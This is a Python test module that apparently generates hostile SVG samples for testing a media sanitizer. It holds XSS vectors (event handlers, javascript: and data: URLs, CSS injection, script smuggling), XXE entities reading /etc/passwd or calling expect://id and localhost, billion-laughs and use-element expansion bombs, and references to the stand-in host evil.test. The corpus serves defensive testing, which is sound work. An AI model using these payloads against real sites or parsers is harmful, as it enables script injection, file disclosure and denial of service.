"""SVG with everything that runs, loads, links or multiplies."""

from collections.abc import Iterator

from apps.media.tests.corpus import samples
from apps.media.tests.corpus.hostile import MARKER, Hostile

M = MARKER.decode()
EVENTS = [
    "onload",
    "onclick",
    "onerror",
    "onmouseover",
    "onmouseout",
    "onmousemove",
    "onmousedown",
    "onmouseup",
    "onfocus",
    "onblur",
    "onfocusin",
    "onfocusout",
    "onactivate",
    "onabort",
    "onresize",
    "onscroll",
    "onunload",
    "onzoom",
    "onbegin",
    "onend",
    "onrepeat",
    "onkeydown",
    "onkeyup",
    "onkeypress",
    "onwheel",
    "onpointerdown",
    "onpointerenter",
    "onanimationstart",
    "onanimationend",
    "ontransitionend",
    "ontoggle",
    "onbeforeinput",
    "oninput",
    "onchange",
    "onsubmit",
    "oncopy",
    "onpaste",
    "oncut",
    "ondrag",
    "ondrop",
    "onhashchange",
    "onmessage",
    "onpageshow",
    "onpopstate",
    "onshow",
    "onsearch",
    "onauxclick",
    "ongotpointercapture",
    "onbeforetoggle",
    "onsecuritypolicyviolation",
]
ADDRESSES = (
    f"javascript:{M}", f"JaVaScRiPt:{M}", f"&#106;avascript:{M}", f" javascript:{M}", f"java&#9;script:{M}",
    f"data:text/html,{M}", f"data:image/svg+xml,{M}", f"data:image/svg+xml;base64,{M}", f"https://evil.test/{M}",
    f"//evil.test/{M}", f"evil.svg#{M}", f"file:///etc/{M}", f"vbscript:{M}", f"#x javascript:{M}", f"blob:{M}",
)  # fmt: skip
LINKED = ("a", "use", "image", "feImage", "textPath", "linearGradient", "pattern", "script", "mpath", "cursor", "set", "filter")  # fmt: skip
SHEETS = (
    f"@import url(https://evil.test/{M});", f"@import '{M}';", f"rect{{fill:url(https://evil.test/{M})}}",
    f"@font-face{{font-family:x;src:url({M})}}", f"rect{{background:url(javascript:{M})}}",
    f"rect{{behavior:url({M})}}", f"rect{{-moz-binding:url({M})}}", f"rect{{width:expression({M})}}",
    f"rect{{fill:\\75rl({M})}}", f"</style><script>{M}</script>", f"rect{{fill:red;}}/*{M}*/",
    f"@media print{{rect{{fill:url({M})}}}}", f"rect[x^='{M}']{{fill:url(//x)}}", f"*{{--x:{M}}}",
)  # fmt: skip
STYLES = (
    f"fill:url(https://evil.test/{M})", f"fill:url('javascript:{M}')", f"fill:URL({M})", f"fill:u\\72l({M})",
    f"behavior:url({M})", f"-moz-binding:url({M}#x)", f"fill:url(data:image/png;base64,{M})", f"fill:red/*{M}*/",
    f"font-family:'{M}</style><script>'", f"mask:url( https://evil.test/{M}#a )", f"filter:image-set('{M}' 1x)",
    f"cursor:url({M}),auto",
)  # fmt: skip


def scripts() -> Iterator[str]:
    yield f"<script>{M}</script>"
    yield f"<script type='text/ecmascript'><![CDATA[{M}]]></script>"
    yield f"<script xlink:href='https://evil.test/{M}'/>"
    yield f"<script href='data:text/javascript,{M}'/>"
    yield f"<x:script xmlns:x='http://www.w3.org/2000/svg'>{M}</x:script>"
    yield f"<script xmlns='http://www.w3.org/1999/xhtml'>{M}</script>"
    yield f"<g><g><defs><script>{M}</script></defs></g></g>"
    yield f"<SCRIPT>{M}</SCRIPT>"
    yield f"<handler xmlns='http://www.w3.org/2000/svg' type='x'>{M}</handler>"
    yield f"<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' srcdoc='{M}'/></foreignObject>"
    yield f"<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='{M}'/></foreignObject>"
    yield f"<foreignObject><form xmlns='http://www.w3.org/1999/xhtml' action='{M}'/></foreignObject>"
    yield f"<iframe xmlns='http://www.w3.org/1999/xhtml' src='javascript:{M}'/>"
    yield f"<embed xmlns='http://www.w3.org/1999/xhtml' src='{M}'/>"
    yield f"<object xmlns='http://www.w3.org/1999/xhtml' data='{M}'/>"
    yield f"<video xmlns='http://www.w3.org/1999/xhtml' src='{M}' onerror='{M}'/>"
    yield f"<audio href='{M}'/><video href='{M}'/><canvas/><iframe href='{M}'/>"
    yield f"<metadata><x xmlns='urn:x'>{M}</x></metadata>"
    yield f"<desc><script>{M}</script></desc>"
    yield f"<title><script>{M}</script></title>"
    yield f"<text><script>{M}</script></text>"
    yield f"<style><!--{M}--></style><!-- {M} --><?x {M}?>"


def moving() -> Iterator[str]:
    for name in ("animate", "set", "animateTransform", "animateMotion", "animateColor", "discard"):
        yield f"<a><{name} attributeName='href' to='javascript:{M}' begin='0s'/><rect/></a>"
        yield f"<rect><{name} attributeName='onclick' values='{M};{M}' onbegin='{M}'/></rect>"


def declared() -> Iterator[bytes]:
    """Entities: to grow, to read files, to call out."""
    ten = {n: f"&l{n};" * 10 for n in range(11)}
    laughs = "".join(f'<!ENTITY l{n + 1} "{ten[n]}">' for n in range(11))
    inside = "<text>&l11;</text>"
    yield samples.svg(inside, before=f'<!DOCTYPE svg [<!ENTITY l0 "{M}">{laughs}]>')
    yield samples.svg("<text>&a;</text>", before=f'<!DOCTYPE svg [<!ENTITY a "{"A" * 100000}">]>')
    for target in (
        "file:///etc/passwd",
        "http://127.0.0.1:9/x",
        "ftp://127.0.0.1/x",
        "php://filter/x",
        "expect://id",
    ):
        yield samples.svg(
            "<text>&x;</text>", before=f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{target}">]>'
        )
        yield samples.svg(
            "<text>&x;</text>", before=f'<!DOCTYPE svg [<!ENTITY % p SYSTEM "{target}">%p;]>'
        )
        yield samples.svg(
            "<text>&x;</text>", before=f'<!DOCTYPE svg [<!ENTITY x PUBLIC "p" "{target}">]>'
        )
        yield samples.svg(
            "", root='y="&x;"', before=f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{target}">]>'
        )
    yield samples.svg("", before=f'<!DOCTYPE svg [<!ATTLIST rect onload CDATA "{M}">]>')
    yield samples.svg("", before='<!DOCTYPE svg [<!NOTATION n SYSTEM "http://127.0.0.1/">]>')
    yield samples.svg("<text>&undefined;</text>")
    yield samples.svg("<rect/>") + b"<svg/>"
    yield b'<html xmlns="http://www.w3.org/1999/xhtml"><script>' + MARKER + b"</script></html>"
    yield b"<svg><script>" + MARKER + b"</script></svg>"
    yield b'<?xml version="1.0" encoding="UTF-7"?>+ADw-script+AD4-' + MARKER
    yield samples.svg("<rect/>").decode().encode("utf-16")
    yield samples.svg("<rect/>")[:-6]
    yield samples.svg("<g>" * 5000 + "</g>" * 5000)
    yield samples.svg("<rect/>" * 300_000)


def multiplied() -> Iterator[bytes]:
    """Copies of copies: ten levels of ten are ten thousand million rectangles."""
    ten = {n: f"<use href='#l{n}'/>" * 10 for n in range(10)}
    levels = "".join(f"<g id='l{n + 1}'>{ten[n]}</g>" for n in range(10))
    yield samples.svg(f"<g id='l0'><rect/></g>{levels}")
    yield samples.svg("<g id='a'><use href='#b'/></g><g id='b'><use href='#a'/></g>")
    yield samples.svg("<g id='a'><use href='#a'/></g>")


def all_drawings() -> Iterator[Hostile]:
    for event in EVENTS:
        yield Hostile(f"svg, {event} of the root", samples.svg(root=f'{event}="{M}"'))
        yield Hostile(f"svg, {event} of a shape", samples.svg(f'<rect {event}="{M}"/>'))
    for address in ADDRESSES:
        inside = "".join(f'<{name} href="{address}"/>' for name in LINKED)
        yield Hostile(f"svg, all to {address}", samples.svg(inside))
    for name in LINKED:
        inside = "".join(
            f'<{name} xlink:href="{address}"><rect/></{name}>' for address in ADDRESSES
        )
        yield Hostile(f"svg, {name} to all", samples.svg(inside))
    for sheet in SHEETS:
        yield Hostile(f"svg, sheet {sheet}", samples.svg(f"<style>{sheet}</style><rect/>"))
    for style in STYLES:
        yield Hostile(f"svg, style {style}", samples.svg(f'<rect style="{style}"/>'))
        attribute, _, value = style.partition(":")
        yield Hostile(
            f"svg, attribute {style}",
            samples.svg(f'<rect {attribute}="{value.replace("<", "&lt;")}"/>'),
        )
    for script in (*scripts(), *moving()):
        yield Hostile(f"svg, {script}", samples.svg(script))
    for number, content in enumerate((*declared(), *multiplied())):
        yield Hostile(f"svg, declaration {number}", content, refused=True)
    sheet = f'<?xml-stylesheet href="https://evil.test/{M}"?>'
    yield Hostile("svg with a style sheet elsewhere", samples.svg(before=sheet))
    outside = f'<!DOCTYPE svg SYSTEM "http://127.0.0.1:9/{M}">'
    yield Hostile("svg with a declaration elsewhere", samples.svg(before=outside))
